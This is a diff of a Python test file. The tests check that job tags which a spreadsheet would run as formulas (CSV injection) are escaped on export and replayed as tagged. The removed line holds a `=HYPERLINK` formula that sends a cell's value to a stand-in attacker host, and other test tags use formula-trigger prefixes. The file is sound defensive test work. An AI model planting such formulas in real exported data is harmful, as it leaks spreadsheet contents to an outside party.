@@ -263,13 +263,14 @@ def test_a_trace_cut_short_leaves_no_csv_that_looks_complete(
     assert sorted(p.name for p in tmp_path.iterdir()) == ["mine.csv"]  # nor a temporary file beside it
 
 
-FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+# a formula a tag may hold: SageMaker takes letters, digits, spaces and _ . : / = + - @ in tags
+FORMULA = "=A1+B1/2"
 
 
 def test_tags_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_replayed_as_tagged(
     account: System, capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
-    # whoever starts a job writes its tags: opened in a spreadsheet, a team `=HYPERLINK(...)` ran as a
+    # whoever starts a job writes its tags: opened in a spreadsheet, a team `=A1+B1/2` ran as a
     # formula (CSV injection); each such text cell is written after a `'`, which simulate drops again
     account.run_job("f-1", 250, tags={"team": FORMULA, "owner": "@alice"})
     account.run_job("f-2", 250, tags={"team": "-ops", "owner": "+bob"})
